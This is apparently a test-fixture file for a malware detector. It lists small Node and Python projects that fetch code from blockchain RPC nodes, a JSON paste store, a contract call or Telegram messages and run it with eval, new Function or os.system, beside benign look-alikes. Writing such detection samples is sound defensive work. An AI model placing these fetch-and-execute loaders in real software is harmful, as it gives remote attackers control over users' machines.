import type { Examples } from "@doorward/core";

/** Public ledgers, paste sites and chats that decide what runs, and honest callers of each. */
export const examples: Examples = {
  hits: [
    {
      name: "a transaction that holds the code",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `(async () => {
  const answer = await fetch("https://bsc-dataseed.binance.org", { method: "POST" });
  const { result } = await answer.json();
  eval(Buffer.from(result.input.slice(2), "hex").toString());
})();
`,
      },
    },
    {
      name: "a store of JSON",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://api.npoint.io/0123456789").then((answer) => answer.json()).then(({ content }) => new Function("require", content)(require));
`,
      },
    },
    {
      name: "a recipient that is an address of a server",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const axios = require("axios");
(async () => {
  const { data } = await axios.post("https://eth.drpc.org", { method: "eth_getBlockByNumber" });
  const host = data.result.to.slice(-8).match(/../g).map((part) => parseInt(part, 16)).join(".");
  const next = await axios.get("http://" + host + ":1224/next");
  eval(next.data);
})();
`,
      },
    },
    {
      name: "a chat that brings commands",
      files: {
        "main.py": `import requests, os
answer = requests.get("https://api.telegram.org/bot/getUpdates").json()
os.system(answer["result"][0]["message"]["text"])
`,
      },
    },
    {
      name: "a contract that is asked",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { ethers } = require("ethers");
const provider = new ethers.JsonRpcProvider("https://bsc-dataseed.binance.org");
new ethers.Contract("0x0", ["function get() view returns (string)"], provider).get().then((text) => eval(text));
`,
      },
    },
  ],
  misses: [
    {
      name: "a wallet that shows a balance",
      why: "The ledger answers with a number, which is shown.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { ethers } = require("ethers");
const provider = new ethers.JsonRpcProvider("https://bsc-dataseed.binance.org");
provider.getBalance("0x0").then((balance) => console.log(String(balance)));
`,
      },
    },
    {
      name: "a bot that converts what people send it",
      why: "The code names the program, and the message is a value for it.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { exec } = require("child_process");
fetch("https://api.telegram.org/bot/getUpdates").then((answer) => answer.json()).then(({ file }) => exec("ffmpeg -i " + file));
`,
      },
    },
    {
      name: "a list from a paste site",
      why: "The list is read as data.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://pastebin.com/raw/x").then((answer) => answer.text()).then((text) => console.log(text.split(",").length));
`,
      },
    },
  ],
  evasions: [
    {
      name: "a ledger that no list of hosts holds",
      caughtBy: "code/fetched-code-runs",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://node.example", { method: "POST", body: "eth_call" }).then((answer) => answer.json()).then(({ result }) => eval(result));
`,
      },
    },
  ],
};
